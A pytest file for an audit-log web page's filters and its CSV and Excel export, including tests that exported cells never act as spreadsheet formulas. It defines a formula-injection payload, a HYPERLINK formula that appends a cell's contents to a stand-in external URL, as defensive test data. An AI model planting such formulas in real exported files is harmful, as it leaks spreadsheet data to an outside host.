"""The page of the trail: filters that live in the address, and files in which nothing is a formula."""

import csv
import io
from collections.abc import Iterator
from datetime import timedelta

import openpyxl
import pytest
from starlette.testclient import TestClient

from server.audit import service
from server.audit.service import Change, Outcome
from server.context import make_context
from server.db.migrate import upgrade
from server.web.export import BEGINS_FORMULA, as_csv, as_xlsx
from tests.server.harness import World, apart

NASTY = '=HYPERLINK("https://malo.example?"&A1)'


async def write(world: World, *changes: Change) -> None:
    context = make_context(world.config, world.clock)
    await upgrade(context.engine)
    async with context.writing() as session:
        await service.record(session, world.clock.now(), changes)
    await context.engine.dispose()


@pytest.fixture
def client(empty_world: World) -> Iterator[TestClient]:
    first = Change("ana", "ingest", "recibir", "0001-B1", {"votos": 3}, "direccion", "10.0.0.7")
    apart(write(empty_world, first))
    empty_world.clock.moment += timedelta(days=3)
    second = Change("beto", "accounts", "cargos", NASTY, {}, before={"cargos": ["a"]}, after={"cargos": ["b"]})
    third = Change("ana", "accounts", "entrar", "ana", {}, outcome=Outcome.REFUSED)
    apart(write(empty_world, second, third))
    with empty_world.client() as started:
        yield started


def subjects(client: TestClient, query: str) -> list[str]:
    text = client.get(f"/registro?formato=csv&{query}").content.decode("utf-8-sig")
    return [row["subject"] for row in csv.DictReader(io.StringIO(text))]


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("quien=ana", ["ana", "0001-B1"]),
        ("modulo=accounts&accion=cargos", [f"'{NASTY}"]),
        ("texto=0001-b1", ["0001-B1"]),
        ("texto=%25", []),
        ("texto=votos", ["0001-B1"]),
        ("hasta=2018-07-02", ["0001-B1"]),
        ("desde=2018-07-04&hasta=2018-07-04&accion=cargos", [f"'{NASTY}"]),
        ("quien=nadie", []),
    ],
)
def test_filters_live_in_the_address(client: TestClient, query: str, expected: list[str]) -> None:
    assert subjects(client, query) == expected
    page = client.get(f"/registro?{query}").text
    assert ("Nada coincide con lo que busca" in page) == (not expected)


def test_a_page_keeps_what_was_asked_and_tells_before_and_after(client: TestClient) -> None:
    page = client.get("/registro?accion=cargos").text
    assert '<option value="cargos" selected>Cambió los cargos</option>' in page
    assert "Antes: cargos: a" in page
    assert "Después: cargos: b" in page
    assert "no se le permitió" in client.get("/registro?accion=entrar").text


def test_a_day_out_of_form_is_said(client: TestClient) -> None:
    answer = client.get("/registro?desde=ayer")
    assert answer.status_code == 422
    assert "no tiene la forma esperada" in answer.text


@pytest.mark.parametrize("first", BEGINS_FORMULA)
def test_a27_no_cell_is_a_formula(first: str) -> None:
    nasty = f"{first}1+1"
    text = as_csv(("nombre", "votos"), [(nasty, -3)]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [["nombre", "votos"], [f"'{nasty}", "-3"]]
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx(("nombre", "votos"), [(nasty, -3)]))).active
    assert sheet is not None
    cells = next(iter(sheet.iter_rows(min_row=2)))
    assert [cell.data_type for cell in cells] == ["s", "n"]
    assert cells[1].value == -3


def test_the_workbook_says_what_the_table_says(client: TestClient) -> None:
    body = client.get("/registro?formato=xlsx&accion=recibir").content
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows[0][:5] == ["n", "at", "actor", "role", "address"]
    assert [str(cell) for cell in rows[1][2:8]] == ["ana", "direccion", "10.0.0.7", "ingest", "recibir", "0001-B1"]
